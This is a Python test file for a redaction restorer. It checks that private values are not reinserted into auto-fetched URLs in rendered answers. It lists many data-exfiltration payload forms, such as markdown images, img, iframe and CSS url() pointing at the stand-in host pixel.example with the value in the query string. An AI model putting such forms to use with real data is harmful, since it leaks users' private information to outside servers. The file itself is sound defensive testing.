"""No value goes into a URL that is fetched as soon as an answer is shown."""

import json

import pytest

from carnet.redaction.restore import Restorer

TAG = "EMAIL_7F3K2M9Q"
VALUE = "ada@example.com"
EVIL = "https://pixel.example/?q="
FETCHED = [
    "![ok]({url})",
    '![]({url} "title")',
    "![ok](<{url}>)",
    "![ok](//pixel.example/?q={tag})",
    "![ok](https:\\/\\/pixel.example/?q={tag})",
    "![ok][1]\n\n[1]: {url}",
    '<img src="{url}">',
    "<img alt='a > b' src='{url}'>",
    "<IMG SRC={url}>",
    '<img src="https&#58;&#47;&#47;pixel.example/?q={tag}">',
    '<img srcset="a.png 1x, {url} 2x">',
    '<iframe src="{url}"></iframe>',
    '<link rel="stylesheet" href="{url}">',
    '<video poster="{url}"></video>',
    '<svg><image xlink:href="{url}"/></svg>',
    '<meta http-equiv="refresh" content="0; url={url}">',
    '<a ping="{url}" href="https://example.org">x</a>',
    "<style>body {{ background: url('{url}') }}</style>",
    "<style>@import '{url}';</style>",
    '{{"html": "<img src=\\"{url}\\">"}}',
    f"![x](https://pixel.example/{'a' * 600}?q={{tag}})",
]
SHOWN = [
    "Write to {tag}.",
    "[page]({url})",
    '<a href="{url}">page</a>',
    "See {url}.",
    "![{tag}](portrait.png)",
    "![portrait](portraits/{tag}.png)",
    '<img alt="{tag}" src="portrait.png">',
    "<p>{tag}</p>",
    "客户的地址是" * 100 + "{tag}。",
    "x," * 300 + "{tag}",
]


def answered(text: str, *sent: str) -> str:
    restorer = Restorer({TAG: VALUE})
    restorer.sent = lambda: sent
    return restorer.text(text, is_answer=True)


def written(form: str) -> str:
    return form.format(url=f"{EVIL}{TAG}", tag=TAG)


@pytest.mark.parametrize("form", FETCHED)
def test_a_placeholder_stays_where_the_url_would_be_fetched(form: str) -> None:
    assert answered(written(form)) == written(form)


@pytest.mark.parametrize("form", SHOWN)
def test_a_value_is_back_where_somebody_reads_or_follows_it(form: str) -> None:
    assert TAG not in answered(written(form))


@pytest.mark.parametrize("form", FETCHED[:3])
def test_a_url_that_the_request_had_is_its_own(form: str) -> None:
    said = answered(written(form), f"The picture is {EVIL}{TAG}, show it.")
    assert TAG not in said


def test_a_text_of_the_callers_own_comes_back_as_it_was() -> None:
    own = Restorer({TAG: VALUE})
    assert TAG not in own.text(written(FETCHED[0]), is_answer=True)


def test_structured_answers_are_no_way_around() -> None:
    body = json.dumps({"text": written(FETCHED[0])})
    assert TAG in answered(body)
